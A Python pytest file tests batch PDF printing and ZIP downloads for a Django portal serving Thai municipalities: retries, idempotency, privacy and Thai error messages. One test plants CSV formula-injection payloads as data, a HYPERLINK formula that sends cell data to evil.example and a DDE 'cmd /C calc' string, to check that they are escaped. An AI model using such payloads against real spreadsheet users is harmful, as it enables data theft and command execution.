"""Batch printing: the ZIP a user downloads, tasks that may run twice or fail half-way, refusals,
privacy, and the in-process runner of the embedded default. The real Celery path (Redis and a
worker process) is in test_batch_celery.py."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
import threading
import zipfile
from pathlib import Path
from typing import Any

import pytest
from django.conf import settings as django_settings
from django.db import connection
from django.test import TestCase
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone

from itaportal import thai
from itaportal.accounts.models import User
from itaportal.celery import app
from measures.models import Measure
from reports.batch import archive, runner, tasks
from reports.batch.models import PrintBatch, PrintJob
from reports.batch.selectors import batches_of, progress_of
from reports.batch.tasks import print_document
from reports.documents.models import Committee
from reports.pdf import renderer
from tests.conftest import client_for
from tests.reports.conftest import pdftotext

BANGKAO = "เทศบาลตำบลบางเก่า"
ALL_KINDS = ["analysis", "plan", "progress", "order"]


@pytest.fixture(autouse=True)
def media(settings: Any, tmp_path: Path) -> None:
    """Each test its own media folder, so the stored documents it counts are its own."""
    settings.MEDIA_ROOT = tmp_path / "media"


@pytest.fixture
def now_runner(settings: Any) -> None:
    settings.BATCH_RUNNER = "now"


def documents_dir() -> Path:
    return Path(django_settings.MEDIA_ROOT, "batches", "documents")


def stored_files() -> set[str]:
    folder = documents_dir()
    return {p.name for p in folder.iterdir()} if folder.exists() else set()


def ask(user: User, year: str = "๒๕๖๖", kinds: list[str] = ALL_KINDS, **scope: str) -> Any:
    """Ask for a batch as the form does; the tasks start when the request's transaction commits,
    which inside a test's transaction happens on leaving this block."""
    with TestCase.captureOnCommitCallbacks(execute=True):
        return client_for(user).post(
            reverse("reports:batch_new"), {"fiscal_year": year, "kinds": kinds, **scope}
        )


def zip_of(user: User, batch: PrintBatch) -> zipfile.ZipFile:
    response = client_for(user).get(reverse("reports:batch_zip", args=[batch.pk]))
    assert response.status_code == 200
    return zipfile.ZipFile(io.BytesIO(response.getvalue()))


@pytest.mark.django_db
def test_it_prints_every_document_of_the_year_into_one_zip(demo: None, now_runner: None) -> None:
    staff = User.objects.get(username="bangkao-staff")
    response = ask(staff)
    batch = PrintBatch.objects.get()
    assert response["Location"] == reverse("reports:batch_detail", args=[batch.pk])
    page = client_for(staff).get(response["Location"]).content.decode()
    assert "พร้อมดาวน์โหลด" in page and reverse("reports:batch_zip", args=[batch.pk]) in page
    archive = zip_of(staff, batch)
    names = sorted(archive.namelist())
    assert names == sorted(
        [
            "เพชรบุรี/เทศบาลตำบลบางเก่า/รายงานการวิเคราะห์ผลการประเมิน ITA 2565.pdf",
            "เพชรบุรี/เทศบาลตำบลบางเก่า/มาตรการส่งเสริมคุณธรรมและความโปร่งใส 2566.pdf",
            "เพชรบุรี/เทศบาลตำบลบางเก่า/รายงานผลการดำเนินการตามมาตรการ 2566.pdf",
            "เพชรบุรี/เทศบาลตำบลบางเก่า/คำสั่งแต่งตั้งคณะกรรมการ ITA 2566.pdf",
            "รายการเอกสาร.csv",
        ]
    )
    plan = archive.read("เพชรบุรี/เทศบาลตำบลบางเก่า/มาตรการส่งเสริมคุณธรรมและความโปร่งใส 2566.pdf")
    assert "เทศบาลตำบลบางเก่า" in pdftotext(plan)
    listing = list(csv.reader(io.StringIO(archive.read("รายการเอกสาร.csv").decode("utf-8-sig"))))
    assert len(listing) == 5 and listing[1][0] == BANGKAO


@pytest.mark.django_db
def test_a_task_run_twice_leaves_one_file(demo: None, now_runner: None) -> None:
    staff = User.objects.get(username="bangkao-staff")
    ask(staff, kinds=["plan"])
    job = PrintJob.objects.get()
    files = stored_files()
    assert len(files) == 1 and job.key + ".pdf" in files
    assert print_document.apply(args=(job.pk,)).get() == "repeat"
    ask(staff, kinds=["plan"])  # a second batch of the same, unchanged document
    assert stored_files() == files
    assert set(PrintJob.objects.values_list("key", flat=True)) == {job.key}
    assert PrintBatch.objects.filter(status=PrintBatch.Status.DONE).count() == 2


@pytest.mark.django_db
def test_changed_data_gets_a_new_key(demo: None, now_runner: None) -> None:
    staff = User.objects.get(username="bangkao-staff")
    ask(staff, kinds=["plan"])
    first = PrintJob.objects.get().key
    measure = Measure.objects.filter(
        plan__organisation__name=BANGKAO, plan__fiscal_year=2566
    ).first()
    assert measure is not None
    Measure.objects.filter(pk=measure.pk).update(title="มาตรการที่แก้ไขแล้ว")
    ask(staff, kinds=["plan"])
    second = PrintJob.objects.exclude(key=first).get().key
    assert first.split("-")[:3] == second.split("-")[:3]  # organisation, year, kind
    assert len(stored_files()) == 2


@pytest.mark.django_db
def test_a_write_that_fails_half_way_leaves_no_file_and_is_retried(
    demo: None, now_runner: None, monkeypatch: pytest.MonkeyPatch
) -> None:
    real_replace = archive.os.replace
    calls = []

    def flaky_replace(source: str, target: Any) -> None:
        calls.append(source)
        if len(calls) == 1:
            raise OSError("disk went away")
        real_replace(source, target)

    monkeypatch.setattr(archive.os, "replace", flaky_replace)
    monkeypatch.setattr("reports.batch.tasks.MAX_RETRIES", 3)
    ask(User.objects.get(username="bangkao-staff"), kinds=["plan"])
    job = PrintJob.objects.get()
    assert job.status == PrintJob.Status.DONE and job.attempts == 2
    assert stored_files() == {job.key + ".pdf"}  # no ".partial-" file left behind


@pytest.mark.django_db
def test_a_document_that_keeps_failing_is_listed_and_the_batch_still_finishes(
    demo: None, now_runner: None, monkeypatch: pytest.MonkeyPatch
) -> None:
    def broken(html: str) -> Any:
        raise RuntimeError("font missing")

    monkeypatch.setattr(renderer(), "render", broken)
    staff = User.objects.get(username="bangkao-staff")
    ask(staff, kinds=["plan"])
    batch = PrintBatch.objects.get()
    job = batch.jobs.get()
    assert batch.status == PrintBatch.Status.DONE
    assert job.status == PrintJob.Status.FAILED and job.attempts == 4  # the first and 3 retries
    page = client_for(staff).get(reverse("reports:batch_detail", args=[batch.pk])).content.decode()
    assert "font missing" in page
    listing = zip_of(staff, batch).read("รายการเอกสาร.csv").decode("utf-8-sig")
    assert "RuntimeError: font missing" in listing


@pytest.mark.django_db
def test_the_list_of_documents_runs_no_formula(org: Any, staff: User) -> None:
    org.name = '=HYPERLINK("http://evil.example/?"&A1,"คลิก")'
    org.save()
    batch = PrintBatch.objects.create(requested_by=staff, fiscal_year=2566, scope="x")
    batch.jobs.create(
        organisation=org,
        kind="plan",
        fiscal_year=2566,
        status=PrintJob.Status.FAILED,
        error="-1+cmd|' /C calc'!A0",
    )
    archive.assemble(batch)
    listing = zip_of(staff, batch).read("รายการเอกสาร.csv").decode("utf-8-sig")
    [_, row] = list(csv.reader(io.StringIO(listing)))
    assert row[0] == "'" + org.name and row[4] == "'-1+cmd|' /C calc'!A0"
    assert row[3] == "2566"


@pytest.mark.django_db
def test_it_refuses_a_year_without_documents_in_thai(demo: None, now_runner: None) -> None:
    response = ask(User.objects.get(username="bangkao-staff"), year="๒๕๙๐")
    assert response.status_code == 200
    assert "ไม่มีเอกสารที่พิมพ์ได้ของปีงบประมาณ ๒๕๙๐" in response.content.decode()
    assert not PrintBatch.objects.exists() and not PrintJob.objects.exists()


def field_error(html: str, name: str) -> str:
    """The error shown under one field of the form, as the reader sees it."""
    found = re.search(rf'id="id_{name}_error" class="invalid-feedback">(.*?)</div>', html, re.S)
    return " ".join(re.sub(r"<[^>]+>", " ", found.group(1)).split()) if found else ""


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("body", "field", "message"),
    [
        ({"fiscal_year": "สองพัน", "kinds": ["plan"]}, "fiscal_year", "กรุณากรอกปี พ.ศ."),
        ({"fiscal_year": "2566", "kinds": []}, "kinds", "ฟิลด์นี้จำเป็น"),
        ({"fiscal_year": "2566", "kinds": ["memo"]}, "kinds", "memo ไม่ใช่ตัวเลือกที่ใช้ได้"),
        (
            {"fiscal_year": "2566", "kinds": ["plan"], "district": "ไม่มีอำเภอนี้"},
            "district",
            "ไม่มีอำเภอนี้ ไม่ใช่ตัวเลือกที่ใช้ได้",
        ),
    ],
)
def test_it_answers_bad_input_in_thai_and_writes_nothing(
    demo: None, now_runner: None, body: dict[str, Any], field: str, message: str
) -> None:
    response = client_for(User.objects.get(username="supervisor-phetchaburi")).post(
        reverse("reports:batch_new"), body
    )
    assert response.status_code == 200
    assert message in field_error(response.content.decode(), field)
    assert not PrintBatch.objects.exists()


@pytest.mark.django_db
def test_a_supervisor_prints_only_their_area(demo: None, now_runner: None) -> None:
    supervisor = User.objects.get(username="supervisor-phetchaburi")
    ask(supervisor)
    assert set(PrintJob.objects.values_list("organisation__name", flat=True)) == {BANGKAO}


@pytest.mark.django_db
def test_a_batch_is_private_to_whoever_asked(demo: None, now_runner: None) -> None:
    ask(User.objects.get(username="bangkao-staff"), kinds=["plan"])
    batch = PrintBatch.objects.get()
    for username in ("bangkao-reviewer", "phusang-staff", "supervisor-phetchaburi"):
        client = client_for(User.objects.get(username=username))
        assert client.get(reverse("reports:batch_detail", args=[batch.pk])).status_code == 404
        assert client.get(reverse("reports:batch_zip", args=[batch.pk])).status_code == 404
        assert batch.scope not in client.get(reverse("reports:batch_list")).content.decode()


@pytest.mark.django_db
@pytest.mark.parametrize("style", ["thai", "arabic"])
def test_the_batch_pages_write_the_readers_digits(demo: None, now_runner: None, style: str) -> None:
    """A batch's year, counts, progress and date in the digits of the asker's organisation."""
    staff = User.objects.get(username="bangkao-staff")
    assert staff.organisation is not None
    staff.organisation.digit_style = style
    staff.organisation.save()
    ask(staff, kinds=["plan"])
    batch = PrintBatch.objects.get()
    client = client_for(staff)
    pages = [
        client.get(reverse(name, args=args)).content.decode()
        for name, args in [
            ("reports:batch_detail", [batch.pk]),
            ("reports:batch_list", []),
            ("reports:batch_new", []),
        ]
    ]
    detail, listing, new = (re.sub(r"<[^>]+>", " ", page) for page in pages)
    year, total = ("๒๕๖๖", "๑") if style == "thai" else ("2566", "1")
    assert f"ปีงบประมาณ {year}" in detail
    assert f"พิมพ์แล้ว {total} จาก {total} ฉบับ" in detail
    assert f"{total} / {total}" in listing and year in listing
    assert thai.date_be(timezone.localdate(), style == "thai") in listing
    assert f"ได้ {total} หน่วยงาน" in new
    other = "2566" if style == "thai" else "๒๕๖๖"
    assert other not in detail + listing


@pytest.mark.django_db
def test_the_batch_list_runs_the_same_queries_for_one_batch_or_five(
    demo: None, now_runner: None, django_assert_num_queries: Any
) -> None:
    staff = User.objects.get(username="bangkao-staff")
    client = client_for(staff)
    ask(staff, kinds=["plan"])
    client.get(reverse("reports:batch_list"))  # the first request after login saves the session
    with CaptureQueriesContext(connection) as one:
        assert client.get(reverse("reports:batch_list")).status_code == 200
    queries = len(one)  # now: the next request empties the connection's query log
    for _ in range(4):
        ask(staff, kinds=["plan", "progress"])
    with django_assert_num_queries(queries):
        html = client.get(reverse("reports:batch_list")).content.decode()
    assert html.count('data-batch="') == 5


@pytest.mark.django_db(transaction=True)
def test_the_embedded_default_prints_in_a_thread_of_the_web_process(
    frameworks_back: None, demo: None, settings: Any
) -> None:
    settings.BATCH_RUNNER = "thread"
    staff = User.objects.get(username="bangkao-staff")
    printed_in: list[str] = []  # the threads that rendered each document
    render = renderer().render

    def recording_render(html: str) -> Any:
        printed_in.append(threading.current_thread().name)
        return render(html)

    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(renderer(), "render", recording_render)
        response = ask(staff)
        batch = PrintBatch.objects.get()
        assert response["Location"] == reverse("reports:batch_detail", args=[batch.pk])
        # Wait on the printing thread rather than polling the database beside it: the tests'
        # in-memory SQLite locks whole tables between threads. Printing queues the packing
        # behind it; a few rounds let the queue drain.
        for _ in range(5):
            if runner._executor is not None:
                runner._executor.submit(lambda: None).result(timeout=120)
            batch.refresh_from_db()
            if batch.status == PrintBatch.Status.DONE:
                break
    assert len(printed_in) == 4 and threading.current_thread().name not in printed_in
    page = client_for(staff).get(response["Location"]).content.decode()
    assert "พร้อมดาวน์โหลด" in page
    assert sorted(zip_of(staff, batch).namelist()) == sorted(
        [
            "เพชรบุรี/เทศบาลตำบลบางเก่า/รายงานการวิเคราะห์ผลการประเมิน ITA 2565.pdf",
            "เพชรบุรี/เทศบาลตำบลบางเก่า/มาตรการส่งเสริมคุณธรรมและความโปร่งใส 2566.pdf",
            "เพชรบุรี/เทศบาลตำบลบางเก่า/รายงานผลการดำเนินการตามมาตรการ 2566.pdf",
            "เพชรบุรี/เทศบาลตำบลบางเก่า/คำสั่งแต่งตั้งคณะกรรมการ ITA 2566.pdf",
            "รายการเอกสาร.csv",
        ]
    )


@pytest.mark.django_db
def test_a_document_whose_worker_died_shows_failed_with_why_and_the_batch_finishes(
    demo: None, settings: Any
) -> None:
    settings.BATCH_RUNNER = "celery"  # queued for workers that never answer
    staff = User.objects.get(username="bangkao-staff")
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(runner, "_send_to_workers", lambda task, args: True)
        ask(staff, kinds=["plan"])
    batch = PrintBatch.objects.get()
    started = timezone.now() - dt.timedelta(seconds=settings.BATCH_STALLED_SECONDS - 5)
    batch.jobs.update(attempts=1, started_at=started)  # a worker took it, then was killed
    page = client_for(staff).get(reverse("reports:batch_detail", args=[batch.pk]))
    assert "หยุดกลางคัน" not in page.content.decode()  # not yet: redelivery may still come
    batch.jobs.update(started_at=started - dt.timedelta(seconds=10))
    settings.BATCH_RUNNER = "now"  # the ZIP is packed at once
    html = client_for(staff).get(reverse("reports:batch_detail", args=[batch.pk])).content.decode()
    assert "การพิมพ์หยุดกลางคัน (เครื่องที่พิมพ์เอกสารหยุดทำงาน) และไม่ได้พิมพ์ต่อ" in html
    assert PrintBatch.objects.get().status == PrintBatch.Status.DONE


def test_batch_tasks_are_redelivered_within_minutes_when_a_worker_dies() -> None:
    for task in (tasks.dispatch_batch, tasks.print_document, tasks.assemble_batch):
        assert task.acks_late and task.reject_on_worker_lost, task.name
    visibility = app.conf.broker_transport_options["visibility_timeout"]
    assert django_settings.BATCH_DOCUMENT_LONGEST_SECONDS < visibility <= 10 * 60


@pytest.mark.django_db
def test_documents_the_queue_lost_show_failed_once_the_batch_is_idle(
    demo: None, settings: Any
) -> None:
    settings.BATCH_RUNNER = "celery"  # queued, then Redis is emptied: no worker ever takes them
    staff = User.objects.get(username="bangkao-staff")
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(runner, "_send_to_workers", lambda task, args: True)
        ask(staff, kinds=["plan", "analysis"])
    batch = PrintBatch.objects.get()
    url = reverse("reports:batch_detail", args=[batch.pk])
    long_ago = timezone.now() - dt.timedelta(seconds=settings.BATCH_STALLED_SECONDS + 5)
    PrintBatch.objects.filter(pk=batch.pk).update(created_at=long_ago)
    first = batch.jobs.order_by("pk")[0]
    batch.jobs.filter(pk=first.pk).update(started_at=timezone.now())  # one is printing now
    assert "ไม่ได้เริ่มพิมพ์" not in client_for(staff).get(url).content.decode()
    assert batch.jobs.filter(status=PrintJob.Status.PENDING).count() == batch.jobs.count()
    batch.jobs.filter(pk=first.pk).update(started_at=None)  # nothing has begun for as long
    settings.BATCH_RUNNER = "now"
    html = client_for(staff).get(url).content.decode()
    assert "ไม่ได้เริ่มพิมพ์" in html
    assert not batch.jobs.filter(status=PrintJob.Status.PENDING).exists()
    assert PrintBatch.objects.get().status == PrintBatch.Status.DONE


@pytest.mark.django_db
def test_a_skipped_document_says_why_on_the_batch_page_and_in_its_list(
    demo: None, now_runner: None
) -> None:
    staff = User.objects.get(username="bangkao-staff")
    Committee.objects.filter(organisation__name=BANGKAO, fiscal_year=2566).delete()
    response = ask(staff, kinds=["plan", "order"])
    batch = PrintBatch.objects.get()
    page = client_for(staff).get(response["Location"]).content.decode()
    skipped = re.search(r'<ul class="mb-0" id="skipped">(.*?)</ul>', page, re.S)
    assert skipped is not None
    assert (
        "เทศบาลตำบลบางเก่า, คำสั่งแต่งตั้งคณะกรรมการ ITA ๒๕๖๖: "
        "ยังไม่มีคำสั่งแต่งตั้งคณะกรรมการของปีงบประมาณ ๒๕๖๖" in skipped.group(1)
    )
    progress = progress_of(batches_of(staff).get())
    assert (progress.total, progress.done, progress.skipped) == (1, 1, 1)  # counts what prints
    listing = list(
        csv.reader(io.StringIO(zip_of(staff, batch).read("รายการเอกสาร.csv").decode("utf-8-sig")))
    )
    assert [BANGKAO, "เพชรบุรี", "คำสั่งแต่งตั้งคณะกรรมการ ITA", "2566",
            "ยังไม่มีคำสั่งแต่งตั้งคณะกรรมการของปีงบประมาณ ๒๕๖๖"] in listing  # fmt: skip


@pytest.mark.django_db
def test_a_batch_with_nothing_to_print_says_why(demo: None, now_runner: None) -> None:
    staff = User.objects.get(username="bangkao-staff")
    Committee.objects.filter(organisation__name=BANGKAO, fiscal_year=2566).delete()
    response = ask(staff, kinds=["order"])
    assert response.status_code == 200
    assert "ยังไม่มีคำสั่งแต่งตั้งคณะกรรมการของปีงบประมาณ ๒๕๖๖" in response.content.decode()
    assert not PrintBatch.objects.exists()
